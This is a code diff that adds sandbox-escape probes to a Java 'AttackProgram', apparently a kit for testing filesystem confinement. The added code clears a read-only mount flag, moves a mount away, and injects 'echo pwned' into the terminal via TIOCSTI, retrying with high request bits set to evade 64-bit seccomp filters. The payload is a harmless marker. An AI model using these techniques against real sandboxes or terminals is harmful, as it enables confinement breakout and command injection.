@@ -29,7 +29,17 @@ import java.nio.charset.StandardCharsets;
  *   <li>{@code open-by-handle}: {@code name_to_handle_at(TARGET)}, then {@code open_by_handle_at(O_WRONLY|O_APPEND)}
  *       against a descriptor of OTHER (a directory on the same file system) and write: opens the file without walking
  *       its path. Needs CAP_DAC_READ_SEARCH in the initial user namespace (open_by_handle_at(2)), so only as root.</li>
+ *   <li>{@code mount-setattr-rw}: {@code mount_setattr(TARGET, AT_RECURSIVE, attr_clr = MOUNT_ATTR_RDONLY)}
+ *       (mount_setattr(2), Linux 5.12): makes the mount at TARGET writable again, where the caller may.</li>
+ *   <li>{@code tiocsti}: pushes {@code echo pwned >> 'TARGET'} and a newline into the input queue of the terminal on
+ *       descriptor 0, one byte per {@code ioctl(0, TIOCSTI, &c)} (tty_ioctl(4)); when refused, once more with the
+ *       request's high 32 bits set ({@code 0x100005412}: the kernel ignores them, a seccomp filter comparing 64 bits
+ *       would not).</li>
+ *   <li>{@code move-mount}: {@code move_mount(TARGET -> OTHER)} (move_mount(2), Linux 5.2), OTHER made first as an
+ *       empty file or directory like TARGET: moves the mount at TARGET away and uncovers what lies beneath it.</li>
  * </ul>
+ * The two mount operations act only on TARGET, which the kit takes inside its own project: without a mount there
+ * the kernel answers EINVAL and nothing changes.
  */
 public final class AttackProgram {
     interface LibC extends Library {
@@ -58,7 +68,23 @@ public final class AttackProgram {
         int open_by_handle_at(int mountFd, Pointer handle, int flags) throws LastErrorException;
 
         long write(int fd, byte[] buf, long count) throws LastErrorException;
+
+        int mkdir(String path, int mode) throws LastErrorException;
+
+        long syscall(long number, Object... args) throws LastErrorException;
     }
+
+    // Same numbers on x86_64 and aarch64 (unified table for calls added after 5.0): include/uapi/asm-generic/unistd.h
+    private static final long SYS_MOVE_MOUNT = 429;
+    private static final long SYS_MOUNT_SETATTR = 442;
+    // include/uapi/linux/mount.h, linux/fcntl.h
+    private static final long MOUNT_ATTR_RDONLY = 0x01;
+    private static final int AT_RECURSIVE = 0x8000;
+    private static final int O_CREAT = 0100;
+    // arch/x86/entry/syscalls/syscall_64.tbl, include/uapi/asm-generic/unistd.h; asm-generic/ioctls.h
+    private static final long SYS_IOCTL = "aarch64".equals(System.getProperty("os.arch")) ? 29 : 16;
+    private static final long TIOCSTI = 0x5412;
+    private static final long TIOCSTI_HIGH_BITS = 0x100005412L;
 
     // <asm-generic/fcntl.h>, same values on x86_64 and aarch64
     private static final int O_RDONLY = 0;
@@ -81,6 +107,12 @@ public final class AttackProgram {
     private static final byte[] PWNED = "PWNED".getBytes(StandardCharsets.US_ASCII);
 
     private AttackProgram() {
+    }
+
+    private static void inject(LibC libc, long request, byte[] line) {
+        for (byte b : line) {
+            libc.syscall(SYS_IOCTL, 0, request, new byte[] {b});
+        }
     }
 
     public static void main(String[] args) {
@@ -170,6 +202,35 @@ public final class AttackProgram {
                         } finally {
                             libc.close(mountFd);
                         }
+                    }
+                    case "mount-setattr-rw" -> {
+                        // struct mount_attr { u64 attr_set; u64 attr_clr; u64 propagation; u64 userns_fd; }
+                        com.sun.jna.Memory attr = new com.sun.jna.Memory(32);
+                        attr.clear();
+                        attr.setLong(8, MOUNT_ATTR_RDONLY);
+                        step = "mount_setattr attr_clr=RDONLY";
+                        libc.syscall(SYS_MOUNT_SETATTR, AT_FDCWD, target, AT_RECURSIVE, attr, 32L);
+                    }
+                    case "tiocsti" -> {
+                        byte[] line = ("echo pwned >> '" + target.replace("'", "'\\''") + "'\n")
+                                .getBytes(StandardCharsets.UTF_8);
+                        step = "ioctl TIOCSTI";
+                        try {
+                            inject(libc, TIOCSTI, line);
+                        } catch (LastErrorException e) {
+                            step = "ioctl TIOCSTI with the high bits set";
+                            inject(libc, TIOCSTI_HIGH_BITS, line);
+                        }
+                    }
+                    case "move-mount" -> {
+                        step = "make the destination";
+                        if (new java.io.File(target).isDirectory()) {
+                            libc.mkdir(other, 0700);
+                        } else {
+                            libc.close(libc.open(other, O_CREAT | O_WRONLY, 0600));
+                        }
+                        step = "move_mount";
+                        libc.syscall(SYS_MOVE_MOUNT, AT_FDCWD, target, AT_FDCWD, other, 0);
                     }
                     default -> throw new IllegalArgumentException("unknown attack operation " + op);
                 }
